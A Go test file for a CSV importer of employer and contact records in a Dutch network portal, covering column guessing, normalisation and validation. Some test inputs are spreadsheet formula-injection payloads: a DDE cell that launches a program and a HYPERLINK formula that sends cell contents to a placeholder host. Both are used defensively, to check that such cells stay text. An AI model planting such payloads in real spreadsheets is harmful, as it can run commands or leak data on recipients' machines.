package importer

import (
	"context"
	"go/ast"
	"go/parser"
	"go/token"
	"slices"
	"strconv"
	"strings"
	"testing"

	"netwerkportaal/internal/platform/i18n"
)

func TestGuess(t *testing.T) {
	tests := []struct {
		header []string
		want   Mapping
	}{
		{[]string{"Bedrijfsnaam", "KvK-nummer", "Postcode", "Plaats", "Naam contactpersoon", "E-mail", "Functie", "Telefoon"},
			Mapping{FName, FKvK, FPostcode, FCity, FContactName, FEmail, FFunction, FPhone}},
		{[]string{"Company", "Chamber of Commerce", "Zip", "City", "Contact person", "Email address", "Role", "Phone"},
			Mapping{FName, FKvK, FPostcode, FCity, FContactName, FEmail, FFunction, FPhone}},
		{[]string{"Organisatie", "KvK", "Contactpersoon", "E-mailadres", "Job title", "Level", "Opmerkingen"},
			Mapping{FName, FKvK, FContactName, FEmail, FJobTitle, FLevel, FNotes}},
		// A bare "Naam" is the contact once another column names the employer.
		{[]string{"Werkgever", "Naam", "Mail"}, Mapping{FName, FContactName, FEmail}},
		{[]string{"Naam", "Plaats", "Voornaam", "Tussenvoegsel", "Achternaam"}, Mapping{FName, FCity, FFirstName, FInfix, FLastName}},
		// Words inside longer headers; a field goes to its first column only.
		// A header that is a synonym wins over one that only holds its word.
		{[]string{"Naam van de organisatie", "E-mail zakelijk", "Telefoonnummer mobiel", "Postcode vestiging", "Postcode"},
			Mapping{FName, FEmail, FPhone, "", FPostcode}},
		{[]string{"", "Onbekende kolom", "Aantal medewerkers", "Arbeidsmarktregio", "Status", "SBI"},
			Mapping{"", "", FEmployees, FRegion, FStatus, FSector}},
	}
	for _, tt := range tests {
		if got := Guess(tt.header); !slices.Equal(got, tt.want) {
			t.Errorf("%q:\n got %q\nwant %q", tt.header, got, tt.want)
		}
	}
}

func TestMappingCheck(t *testing.T) {
	msgs := func(ps []MappingProblem) []string {
		var out []string
		for _, p := range ps {
			out = append(out, p.Msg)
		}
		return out
	}
	if p := (Mapping{FName, FEmail, FContactName}).Check(3); len(p) != 0 {
		t.Errorf("a good mapping: %v", p)
	}
	if got := msgs((Mapping{FEmail, ""}).Check(2)); !slices.Equal(got, []string{msgMappingNoName, msgMappingNoContactName}) {
		t.Errorf("no names: %q", got)
	}
	p := (Mapping{FName, FName, "wachtwoord"}).Check(3)
	if len(p) != 2 || p[0].Column != 1 || p[0].Msg != msgMappingTwice || p[0].Field != FName || p[0].Args[0] != "A" || p[1].Column != 2 || p[1].Msg != msgMappingUnknown {
		t.Errorf("twice and unknown: %+v", p)
	}
	if got := msgs((Mapping{FName}).Check(2)); !slices.Equal(got, []string{msgMappingStale}) {
		t.Errorf("stale: %q", got)
	}
}

func TestValues(t *testing.T) {
	ref := testRef()
	for in, want := range map[string]string{
		"C": "C", "c": "C", "Industrie": "C", "C Industrie": "C", "C - Industrie": "C", "gezondheids- en welzijnszorg": "Q",
		"Tandheelkunde": "", "": "", "CC": "",
	} {
		s, _ := ref.sector(in)
		if s.Code != want {
			t.Errorf("sector %q: %q, want %q", in, s.Code, want)
		}
	}
	for in, want := range map[string]string{
		"Twente": "Twente", "twente": "Twente", "Regio Twente": "Twente", "Zuid-Kennemerland & IJmond": "Zuid-Kennemerland en IJmond",
		"zuid kennemerland en ijmond": "Zuid-Kennemerland en IJmond", "Zaanstreek/Waterland": "Zaanstreek/Waterland",
		"Regio Zwolle": "Regio Zwolle", "Zwolle": "Regio Zwolle", "Overijssel": "", "regio": "",
	} {
		r, _ := ref.region(in)
		if r.Name != want {
			t.Errorf("region %q: %q, want %q", in, r.Name, want)
		}
	}
	for in, want := range map[string]string{
		"hr": "hr", "HR": "hr", "Directie / DGA": "directie", "HR-manager": "hr", "directeur": "directie", "DGA": "directie",
		"Inkoper": "inkoop", "Hoofd inkoop": "inkoop", "Hoofd P&O": "hr", "MVO-coördinator": "mvo", "Manager MVO": "mvo",
		"Recruiter": "recruitment", "Teamleider": "leidinggevende", "Chef-kok": "leidinggevende", "Eigenaar": "directie",
		"Directeur-bestuurder": "directie", "Hoofdinkoper": "inkoop", "Office manager": "", "Jobcoach": "", "": "",
		"Anders": "anders", "Procurement": "inkoop", "Director": "directie", "HR manager": "hr",
	} {
		if got, ok := ref.function(in); got != want || ok != (want != "") {
			t.Errorf("function %q: %q %v, want %q", in, got, ok, want)
		}
	}
	for in, want := range map[string]string{"Lid": "lid", "member": "lid", "Prospect": "prospect", "ex-lid": "uitgeschreven",
		"opgezegd": "uitgeschreven", "Gepauzeerd": "gepauzeerd", "aangemeld": "aangemeld", "misschien": ""} {
		if got, _ := status(in); got != want {
			t.Errorf("status %q: %q, want %q", in, got, want)
		}
	}
	for in, want := range map[string]string{"Strategisch": "strategisch", "strategic": "strategisch", "tact.": "tactisch",
		"O": "operationeel", "operational": "operationeel", "hoog": ""} {
		if got, _ := level(in); got != want {
			t.Errorf("level %q: %q, want %q", in, got, want)
		}
	}
}

func TestMapRowProblems(t *testing.T) {
	table := mustParse(t, readTestdata(t, "fouten.csv"))
	res := Map(table, Guess(table.Header), testRef())
	type want struct {
		row    int
		column string
		value  string
		msg    string
	}
	wants := []want{
		{3, "B (KvK-nummer)", "1234", msgKvKInvalid},
		{4, "E (Postcode)", "0123 AB", msgPostcodeInvalid},
		{5, "J (E-mail)", "mirjam-at-knipoog.example", msgEmailInvalid},
		{6, "C (Sector)", "Tandheelkunde", msgSectorUnknown},
		{7, "A (Bedrijfsnaam)", "", msgEmployerNameMissing},
	}
	if len(res.Refused) != len(wants) {
		t.Fatalf("refused %+v", res.Refused)
	}
	for i, w := range wants {
		p := res.Refused[i]
		if p.Row != w.row || p.ColumnName() != w.column || p.Value != w.value || p.Msg != w.msg {
			t.Errorf("problem %d: row %d, column %q, value %q, %q; want %+v", i, p.Row, p.ColumnName(), p.Value, p.Msg, w)
		}
	}
	if res.RefusedRows() != 5 || len(res.Employers) != 2 {
		t.Errorf("%d refused rows, %d employers", res.RefusedRows(), len(res.Employers))
	}
	if got := res.Refused[0].Text(i18n.WithLang(context.Background(), i18n.EN)); !strings.Contains(got, "8 digits") {
		t.Errorf("English reason %q", got)
	}
}

func TestMapGroupsAndNormalises(t *testing.T) {
	csv := "Bedrijf;KvK;Postcode;Plaats;Status;Contactpersoon;E-mail;Functie;Niveau;Medewerkers\n" +
		"Bakkerij Bos;1234567;7511ab;Enschede;Lid;Anna Bos;ANNA@bos.example;HR-manager;tactisch;1.250\n" +
		"Bakkerij Bos;01234567;7511 AB;Hengelo;;Anna Bos;anna@bos.example;;;\n" + // same employer and contact; another city
		"bakkerij bos;;7511 AB;;;Piet Bos;;Directeur;;\n" + // no KvK: same name and postcode
		"Bakkerij Bos;;;;;Piet Bos;piet@bos.example;;;\n" + // no postcode: the only Bakkerij Bos
		"Bakkerij Bos;;7522 CD;Enschede;;;;;;\n" + // another postcode: another employer
		"Slagerij Vos;=cmd|' /C calc'!A0;;;;Jan Vos;;Jobcoach;;\n"
	table := mustParse(t, []byte(csv))
	res := Map(table, Guess(table.Header), testRef())
	if len(res.Employers) != 2 || len(res.Refused) != 1 {
		t.Fatalf("%d employers, refused %+v", len(res.Employers), res.Refused)
	}
	e := res.Employers[0]
	v := e.Values
	if v.KvK != "01234567" || v.Postcode != "7511 AB" || v.City != "Enschede" || v.Status != "lid" || *v.Employees != 1250 ||
		!slices.Equal(e.Rows, []int{2, 3, 4, 5}) {
		t.Errorf("employer %+v rows %v", v, e.Rows)
	}
	if len(e.Contacts) != 2 {
		t.Fatalf("contacts %+v", e.Contacts)
	}
	anna, piet := e.Contacts[0].Values, e.Contacts[1].Values
	if anna.Email != "anna@bos.example" || anna.Function != "hr" || anna.JobTitle != "HR-manager" || anna.Level != "tactisch" {
		t.Errorf("anna %+v", anna)
	}
	if piet.Email != "piet@bos.example" || piet.Function != "directie" || piet.JobTitle != "Directeur" || piet.Level != "" {
		t.Errorf("piet %+v", piet)
	}
	if res.Employers[1].Values.Postcode != "7522 CD" || len(res.Employers[1].Contacts) != 0 {
		t.Errorf("second employer %+v", res.Employers[1])
	}
	notes := map[string]int{}
	for _, n := range res.Notes {
		notes[n.Msg]++
	}
	// Row 7 is refused: its formula and its unknown function are no
	// remarks on an imported row, so they are not listed as such.
	if notes[msgKvKPadded] != 1 || notes[msgEmployerDiffers] != 1 || notes[msgFormula] != 0 || notes[msgFunctionUnknown] != 0 {
		t.Errorf("notes %+v", res.Notes)
	}
	if p := res.Refused[0]; p.Row != 7 || p.Msg != msgKvKInvalid || p.Value != "=cmd|' /C calc'!A0" {
		t.Errorf("refused %+v", p)
	}
}

// TestFormulaCellsAreText: a cell a spreadsheet would run is kept as the
// text it is, and noted.
func TestFormulaCellsAreText(t *testing.T) {
	table := mustParse(t, readTestdata(t, "formules.csv"))
	res := Map(table, Guess(table.Header), testRef())
	if len(res.Refused) != 0 || len(res.Employers) != 2 {
		t.Fatalf("refused %+v, %d employers", res.Refused, len(res.Employers))
	}
	if got := res.Employers[0].Values.Name; got != `=HYPERLINK("https://example.invalid/?d="&A1;"klik")` {
		t.Errorf("name %q", got)
	}
	if got := res.Employers[1].Values.Notes; got != `+"tekst"` {
		t.Errorf("notes %q", got)
	}
	var flagged []string
	for _, n := range res.Notes {
		if n.Msg == msgFormula {
			flagged = append(flagged, strconv.Itoa(n.Row)+":"+n.Args[0].(string))
		}
	}
	// The phone number +31 6 ... is a phone number, not a formula.
	if want := []string{"2:=", "2:=", "3:@", "3:-", "3:+"}; !slices.Equal(flagged, want) {
		t.Errorf("flagged %v, want %v", flagged, want)
	}
}

// TestMessagesTranslated checks that every Dutch message of this package
// (the constants of messages.go and the field labels) has an English text.
func TestMessagesTranslated(t *testing.T) {
	f, err := parser.ParseFile(token.NewFileSet(), "messages.go", nil, 0)
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	ast.Inspect(f, func(n ast.Node) bool {
		if lit, ok := n.(*ast.BasicLit); ok && lit.Kind == token.STRING {
			s, _ := strconv.Unquote(lit.Value)
			ids = append(ids, s)
		}
		return true
	})
	if len(ids) < 30 {
		t.Fatalf("found only %d messages", len(ids))
	}
	for _, fl := range Fields {
		ids = append(ids, fl.Label)
	}
	en := i18n.WithLang(context.Background(), i18n.EN)
	same := map[string]bool{"Status": true, "Sector": true, "Postcode": true}
	for _, id := range ids {
		if i18n.T(en, id) == id && !same[id] {
			t.Errorf("en_import.json lacks %q", id)
		}
	}
}
